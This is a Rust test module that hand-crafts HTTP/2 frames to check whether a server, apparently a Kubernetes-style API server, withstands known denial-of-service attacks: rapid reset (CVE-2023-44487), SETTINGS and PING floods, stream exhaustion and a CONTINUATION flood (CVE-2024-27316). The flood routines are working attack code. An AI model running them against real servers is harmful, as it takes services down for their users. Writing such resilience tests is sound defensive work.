//! HTTP/2 used against the server. Frames are made by hand: no client library sends these.

use super::Seen;
use super::http::Connection;
use super::site::{NAMESPACE, Site, Who};
use std::time::Duration;
use tokio::io::{AsyncReadExt, AsyncWriteExt};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RESET: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const GOAWAY: u8 = 7;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
/// How long a scenario goes on at most.
const LIMIT: Duration = Duration::from_secs(60);

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("frames are short").to_be_bytes();
    let mut out = length[1..].to_vec();
    out.extend([kind, flags]);
    out.extend(stream.to_be_bytes());
    out.extend(payload);
    out
}

/// A header that is in no table, as it is.
fn header(name: &str, value: &str) -> Vec<u8> {
    let mut out = vec![0];
    for text in [name, value] {
        // Lengths of seven bits, or more.
        match text.len() {
            short @ 0..127 => out.push(short as u8),
            long => {
                out.push(127);
                let mut rest = long - 127;
                while rest >= 128 {
                    out.push((rest % 128) as u8 | 128);
                    rest /= 128;
                }
                out.push(rest as u8);
            }
        }
        out.extend(text.bytes());
    }
    out
}

fn get(path: &str) -> Vec<u8> {
    let headers = [(":method", "GET"), (":scheme", "https"), (":path", path), (":authority", "load")];
    headers.iter().flat_map(|(name, value)| header(name, value)).collect()
}

/// What the server did on a connection.
#[derive(Debug, Default)]
struct Heard {
    answers: usize,
    resets: usize,
    goaway: bool,
    closed: bool,
}

/// Sends frames until all are sent or the server closes, hearing what it says, and then for a while.
async fn talk(
    site: &Site,
    settings: &[u8],
    pieces: impl Iterator<Item = Vec<u8>>,
    wait: Duration,
) -> Result<Heard, String> {
    let connection = site.connect(Who::Somebody, "h2").await?;
    let (mut read, mut write): (tokio::io::ReadHalf<Connection>, _) = tokio::io::split(connection);
    let sending = async {
        let start = [PREFACE, &frame(SETTINGS, 0, 0, settings)].concat();
        let mut pieces = std::iter::once(start).chain(pieces);
        loop {
            // Many frames at a time: the point is to be quick.
            let burst: Vec<u8> = pieces.by_ref().take(64).flatten().collect();
            if burst.is_empty() || write.write_all(&burst).await.is_err() || write.flush().await.is_err() {
                return;
            }
        }
    };
    let mut heard = Heard::default();
    let hearing = async {
        let mut head = [0; 9];
        while read.read_exact(&mut head).await.is_ok() {
            let length = u64::from(u32::from_be_bytes([0, head[0], head[1], head[2]]));
            match head[3] {
                HEADERS => heard.answers += 1,
                RESET => heard.resets += 1,
                GOAWAY => heard.goaway = true,
                _ => {}
            }
            let skipped = tokio::io::copy(&mut (&mut read).take(length), &mut tokio::io::sink()).await;
            if skipped.is_err() {
                break;
            }
        }
        heard.closed = true;
    };
    let sent_and_waited = async {
        sending.await;
        tokio::time::sleep(wait).await;
    };
    tokio::select! {
        () = hearing => {}
        () = sent_and_waited => {}
        () = tokio::time::sleep(LIMIT) => return Err("it goes on and on".to_owned()),
    }
    Ok(heard)
}

/// The numbers of a client's streams.
fn numbers() -> impl Iterator<Item = u32> {
    (0..).map(|n| 2 * n + 1)
}

/// The connection must have been ended by the server.
fn ended(what: &str, heard: &Heard) -> Seen {
    match heard.goaway || heard.closed {
        true => Ok(format!("{what}: {heard:?}")),
        false => Err(format!("{what}: the server takes it all: {heard:?}")),
    }
}

/// Requests that are taken back at once (CVE-2023-44487).
pub(super) async fn resets(site: &Site) -> Seen {
    let path = format!("/api/v1/namespaces/{NAMESPACE}/configmaps");
    let pieces = numbers().take(100_000 * site.scale).map(|n| {
        [frame(HEADERS, END_STREAM | END_HEADERS, n, &get(&path)), frame(RESET, 0, n, &8u32.to_be_bytes())].concat()
    });
    ended("rapid resets", &talk(site, &[], pieces, Duration::from_secs(1)).await?)
}

/// Frames that ask for an answer each, which is never read: the server must not pile them up.
pub(super) async fn settings_and_pings(site: &Site) -> Seen {
    let mut seen = Vec::new();
    for (what, flood) in [("settings", frame(SETTINGS, 0, 0, &[])), ("pings", frame(PING, 0, 0, &[7; 8]))] {
        let mut connection = site.connect(Who::Somebody, "h2").await?;
        let start = [PREFACE, &frame(SETTINGS, 0, 0, &[])].concat();
        connection.write_all(&start).await.map_err(|e| e.to_string())?;
        let burst = flood.repeat(4096);
        let mut sent = 0;
        let sending = async {
            while sent < 2_000 * site.scale && connection.write_all(&burst).await.is_ok() {
                sent += 1;
            }
        };
        // A server that stops reading is fine, too.
        let stopped = tokio::time::timeout(Duration::from_secs(5), sending).await.is_err();
        site.serves_admin().await?;
        seen.push(format!("{what}: {sent} bursts, stopped {stopped}"));
    }
    Ok(seen.join("; "))
}

/// More streams than are allowed, none of them finished.
pub(super) async fn streams(site: &Site) -> Seen {
    let path = format!("/api/v1/namespaces/{NAMESPACE}/configmaps");
    let post = [(":method", "POST"), (":scheme", "https"), (":path", path.as_str()), (":authority", "load")];
    let post: Vec<u8> = post.iter().flat_map(|(name, value)| header(name, value)).collect();
    let pieces = numbers().take(2_000).flat_map(|n| [frame(HEADERS, END_HEADERS, n, &post), frame(DATA, 0, n, b"{")]);
    let heard = talk(site, &[], pieces, Duration::from_secs(3)).await?;
    match heard.resets >= 1_000 || heard.goaway || heard.closed {
        true => Ok(format!("{heard:?}")),
        false => Err(format!("all streams were taken: {heard:?}")),
    }
}

/// Headers that go on in frame after frame (CVE-2024-27316).
pub(super) async fn continuations(site: &Site) -> Seen {
    let first = frame(HEADERS, END_STREAM, 1, &get("/version"));
    let more = header("x", &"y".repeat(8_000));
    let rest = std::iter::repeat_with(move || frame(CONTINUATION, 0, 1, &more)).take(10_000 * site.scale);
    ended("continuations", &talk(site, &[], std::iter::once(first).chain(rest), Duration::from_secs(1)).await?)
}
